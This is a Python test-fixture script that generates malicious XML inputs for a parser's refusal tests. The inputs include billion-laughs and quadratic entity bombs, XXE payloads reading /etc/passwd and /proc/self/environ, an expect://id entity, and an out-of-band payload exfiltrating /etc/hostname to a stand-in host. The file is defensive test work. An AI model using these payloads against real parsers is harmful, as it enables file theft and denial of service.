"""Document types, entities, and every road by which a file may ask for another one."""

from xml_shapes import Shelf, census, child

FILES = Shelf()
DECLARED = '<?xml version="1.0"?>\n'


def doctype(name, declaration, text="&e;", line=1, before=""):
  """Any document type declaration is refused, where it begins."""
  FILES.refuse(name, census(child(text), before + declaration + "\n"), "doctype", line)


# Bombs.
doctype("entity-bomb-nested.xml",
  "<!DOCTYPE Message [" + '<!ENTITY e0 "ha">'
  + "".join('<!ENTITY e%d "%s">' % (n + 1, ("&e%d;" % n) * 10) for n in range(10)) + "]>",
  text="&e10;")
doctype("entity-bomb-quadratic.xml",
  '<!DOCTYPE Message [<!ENTITY e "' + "x" * 1500 + '">]>', text="&e;" * 300)
doctype("entity-bomb-in-attribute-default.xml",
  '<!DOCTYPE Message [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">'
  '<!ATTLIST Child note CDATA "&b;&b;&b;">]>', text="A1")
doctype("entity-bomb-parameter.xml",
  '<!DOCTYPE Message [<!ENTITY % a "<!ENTITY e \'x\'>"><!ENTITY % b "%a;%a;%a;">%b;]>')
doctype("entity-bomb-parameter-percent.xml",
  '<!DOCTYPE Message [<!ENTITY % p "&#37;p1;"><!ENTITY % p1 "&#37;p;">%p;]>')
doctype("entity-cycle-direct.xml", '<!DOCTYPE Message [<!ENTITY e "&e;">]>')
doctype("entity-cycle-through-two.xml",
  '<!DOCTYPE Message [<!ENTITY e "&f;"><!ENTITY f "&e;">]>')
doctype("entity-never-used.xml", '<!DOCTYPE Message [<!ENTITY e "x">]>', text="A1")
doctype("entity-redefines-lt.xml", '<!DOCTYPE Message [<!ENTITY lt "&#60;Child/>">]>', text="&lt;")
doctype("entity-holds-markup.xml",
  '<!DOCTYPE Message [<!ENTITY e "</LAchildID></Child><Child><LAchildID>B2">]>')
doctype("entity-holds-a-cdata-section.xml",
  '<!DOCTYPE Message [<!ENTITY e "<![CDATA[x]]>">]>')
doctype("entity-split-over-lines.xml",
  '<!DOCTYPE Message [\n<!ENTITY e\n"x">\n]>')

# External entities, by every scheme.
for word, address in [
  ("file", "file:///etc/passwd"), ("file-relative", "duly.yaml"), ("file-above", "../../duly.yaml"),
  ("file-localhost", "file://localhost/etc/passwd"), ("file-share", "\\\\files\\share\\x"),
  ("device", "/dev/zero"), ("device-random", "file:///dev/random"), ("proc", "/proc/self/environ"),
  ("http", "http://invalid.example/x"), ("https", "https://invalid.example/x"),
  ("ftp", "ftp://invalid.example/x"), ("data", "data:text/plain;base64,QTE="),
  ("jar", "jar:http://invalid.example/x.zip!/x"), ("php", "php://filter/resource=x"),
  ("gopher", "gopher://127.0.0.1:25/x"), ("ldap", "ldap://invalid.example/x"),
  ("expect", "expect://id"), ("netdoc", "netdoc:/etc/passwd"), ("urn", "urn:x:y"),
]:
  doctype("external-entity-" + word + ".xml",
    '<!DOCTYPE Message [<!ENTITY e SYSTEM "' + address + '">]>')
doctype("external-entity-public.xml",
  '<!DOCTYPE Message [<!ENTITY e PUBLIC "-//X//Y//EN" "http://invalid.example/x">]>')
doctype("external-entity-in-attribute.xml",
  '<!DOCTYPE Message [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  text='</LAchildID><LAchildID a="&e;">A1')
doctype("external-entity-parameter.xml",
  '<!DOCTYPE Message [<!ENTITY % e SYSTEM "http://invalid.example/x">%e;]>', text="A1")
doctype("external-entity-parameter-exfiltrates.xml",
  '<!DOCTYPE Message [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d '
  '"<!ENTITY &#37; s SYSTEM \'http://invalid.example/?%f;\'>">%d;%s;]>', text="A1")
doctype("external-entity-unparsed.xml",
  '<!DOCTYPE Message [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "x.gif" NDATA n>]>', text="A1")
doctype("external-subset-system.xml", '<!DOCTYPE Message SYSTEM "census.dtd">', text="A1")
doctype("external-subset-http.xml",
  '<!DOCTYPE Message SYSTEM "http://invalid.example/census.dtd">', text="A1")
doctype("external-subset-public.xml",
  '<!DOCTYPE Message PUBLIC "-//X//Census//EN" "census.dtd">', text="A1")
doctype("external-subset-and-internal.xml",
  '<!DOCTYPE Message SYSTEM "census.dtd" [<!ENTITY e "x">]>')

# A document type of any other sort.
doctype("doctype-bare.xml", "<!DOCTYPE Message>", text="A1")
doctype("doctype-of-another-root.xml", "<!DOCTYPE html>", text="A1")
doctype("doctype-empty-subset.xml", "<!DOCTYPE Message []>", text="A1")
doctype("doctype-element-only.xml", "<!DOCTYPE Message [<!ELEMENT Message ANY>]>", text="A1")
doctype("doctype-default-attribute.xml",
  '<!DOCTYPE Message [<!ATTLIST Child status CDATA "closed">]>', text="A1")
doctype("doctype-default-namespace.xml",
  '<!DOCTYPE Message [<!ATTLIST Child xmlns CDATA "urn:other">]>', text="A1")
doctype("doctype-after-declaration.xml", "<!DOCTYPE Message>", "A1", 2, DECLARED)
doctype("doctype-after-comment.xml", "<!DOCTYPE Message>", "A1", 3, DECLARED + "<!-- c -->\n")
doctype("doctype-after-instruction.xml", "<!DOCTYPE Message>", "A1", 3, DECLARED + "<?go on?>\n")
doctype("doctype-after-blank-lines.xml", "<!DOCTYPE Message>", "A1", 4, "\n\n\n")
doctype("doctype-standalone-yes.xml", '<!DOCTYPE Message [<!ENTITY e "x">]>', "&e;", 2,
  '<?xml version="1.0" standalone="yes"?>\n')
FILES.refuse("doctype-utf16.xml",
  census(child("&e;"), '\ufeff<!DOCTYPE Message [<!ENTITY e "x">]>\n').encode("utf-16-le"),
  "doctype", 1)
FILES.refuse("doctype-utf8-mark.xml",
  census(child("&e;"), '\ufeff<!DOCTYPE Message [<!ENTITY e "x">]>\n'), "doctype", 1)
# Where the grammar knows none; nothing but a refusal is asked for.
FILES.refuse("doctype-small-letters.xml", census(child(), "<!doctype Message>\n"),
  "doctype/no-element/name/markup", 1)
FILES.refuse("doctype-without-name.xml", census(child(), "<!DOCTYPE>\n"),
  "doctype/name/markup/no-element", 1)
FILES.refuse("doctype-twice.xml", census(child(), "<!DOCTYPE Message>\n<!DOCTYPE Message>\n"),
  "doctype", 1)
FILES.refuse("doctype-after-root.xml", census(child()) + "<!DOCTYPE Message>\n",
  "doctype/after-root", 6)
FILES.refuse("doctype-inside-root.xml", census("<!DOCTYPE Child>" + child()),
  "doctype/name/markup", 3)
FILES.refuse("doctype-never-ends.xml", '<!DOCTYPE Message [<!ENTITY e "x">\n', "doctype", 1)
FILES.refuse("doctype-cut-in-keyword.xml", "<!DOCTY", "truncated", 1)
FILES.refuse("entity-declaration-outside.xml", census('<!ENTITY e "x">' + child()),
  "name/markup", 3)
FILES.refuse("element-declaration-outside.xml", census("<!ELEMENT Child ANY>" + child()),
  "name/markup", 3)
FILES.refuse("conditional-section-outside.xml", census("<![INCLUDE[" + child() + "]]>"),
  "name/markup/cdata", 3)

# References. `name` is a name missing behind an ampersand or a less-than sign.
FILES.refuse("entity-undeclared.xml", census(child("&e;")), "entity", 3)
FILES.refuse("entity-undeclared-html.xml", census(child("A&nbsp;1")), "entity", 3)
FILES.refuse("entity-undeclared-in-attribute.xml", census('<Child a="&e;"/>'), "entity", 3)
FILES.refuse("entity-standalone-undeclared.xml",
  census(child("&e;"), '<?xml version="1.0" standalone="yes"?>\n'), "entity", 4)
FILES.refuse("entity-other-case.xml", census(child("&AMP;")), "entity", 3)
FILES.refuse("entity-ampersand-alone.xml", census(child("A & B")), "ampersand/name", 3)
FILES.refuse("entity-ampersand-at-end-of-text.xml", census(child("A&")), "ampersand/name", 3)
FILES.refuse("entity-without-semicolon.xml", census(child("A&amp B")), "ampersand", 3)
FILES.refuse("entity-blank-before-name.xml", census(child("& amp;")), "ampersand/name", 3)
FILES.refuse("entity-reference-outside-root.xml", census(child()) + "&amp;\n", "after-root", 6)
FILES.refuse("entity-reference-before-root.xml", census(child(), "&amp;\n"), "no-element", 1)
FILES.refuse("entity-in-tag-name.xml", census("<Chi&amp;ld/>"),
  "name/attribute-syntax/tag-end/ampersand", 3)
FILES.read("entity-five-of-xml.xml", census(child("&lt;&gt;&amp;&quot;&apos;")), text="<>&\"'")
FILES.read("entity-resolved-once.xml", census(child("&#38;#60;")), text="&#60;")
FILES.read("entity-resolved-once-named.xml", census(child("&amp;lt;")), text="&lt;")
FILES.read("entity-parameter-is-text.xml", census(child("%e;")), text="%e;")

# Roads that need no document type: the file is read, and none of them is taken.
FILES.read("road-xinclude-file.xml",
  census(child(more='<i:include xmlns:i="http://www.w3.org/2001/XInclude" '
    'href="file:///etc/passwd" parse="text"/>')))
FILES.read("road-xinclude-fallback.xml",
  census(child(more='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://invalid.'
    'example/x"><i:fallback><LAchildID>B2</LAchildID></i:fallback></i:include>')), text="B2")
FILES.read("road-stylesheet.xml",
  census(child(), '<?xml-stylesheet href="http://invalid.example/x.xsl" type="text/xsl"?>\n'))
FILES.read("road-model.xml", census(child(), '<?xml-model href="http://invalid.example/x.rnc"?>\n'))
FILES.read("road-catalog.xml",
  census(child(), '<?oasis-xml-catalog catalog="http://invalid.example/x"?>\n'))
FILES.read("road-schema-location.xml", census(child(), root=
  'Message xmlns="urn:x:census" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
  'xsi:schemaLocation="urn:x:census http://invalid.example/x.xsd"'))
FILES.read("road-schema-location-without-namespace.xml", census(child(), root=
  'Message xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
  'xsi:noNamespaceSchemaLocation="file:///etc/passwd"'))
FILES.read("road-xml-base.xml", census(child(), root='Message xml:base="http://invalid.example/"'))
FILES.read("road-xlink.xml",
  census(child(more='<Note xmlns:l="http://www.w3.org/1999/xlink" l:href="file:///etc/passwd" '
    'l:actuate="onLoad"/>')))
FILES.read("road-namespace-is-file.xml", census(child(), root='Message xmlns="file:///etc/passwd"'))
